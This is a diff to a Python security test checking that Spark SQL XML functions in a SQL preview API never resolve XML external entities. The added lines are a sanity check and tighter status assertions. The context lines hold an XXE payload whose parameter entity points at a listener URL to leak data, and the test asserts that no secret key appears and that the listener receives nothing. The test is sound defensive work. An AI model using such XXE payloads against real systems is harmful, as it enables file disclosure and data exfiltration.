@@ -192,13 +192,20 @@ def test_xml_external_entities_are_never_resolved(guard_worker: Worker, world: W
         f"<!DOCTYPE a [<!ENTITY % p SYSTEM \"{listener.url}/param\"> %p;]><a>&leak;</a>",
     ]
     before = world.snapshot()
+    plain = developer_client.post(f"{API}/sql/preview/", {"sql": "SELECT xpath_string('<a>1</a>', '/a') AS r, "
+                                                                   "from_xml('<r><a>2</a></r>', 'a INT').a AS x"},
+                                  format="json")
+    assert plain.status_code == 200 and plain.json()["rows"] == [["1", 2]], plain.content  # the functions do run
     for doc in docs:
         literal = doc.replace("'", "\\'")
         for sql in (f"SELECT from_xml('{literal}', 'a STRING') AS r",
                     f"SELECT schema_of_xml('{literal}') AS r",
                     f"SELECT xpath_string('{literal}', '/a') AS r"):
             response = developer_client.post(f"{API}/sql/preview/", {"sql": sql}, format="json")
-            assert response.status_code in (200, 400), response.content
+            # Spark's XML functions parse it (entities unresolved); xpath may fail on the DTD it may not open
+            assert response.status_code == 200 or (sql.startswith("SELECT xpath") and response.status_code == 400
+                                                    and "rule:" not in response.json()["error"]["message"]), (
+                sql, response.content)
             assert "fernet-key-that-must-stay-here" not in response.content.decode(), (sql, response.content)
             assert "pwned" not in response.content.decode()
     assert listener.requests == []
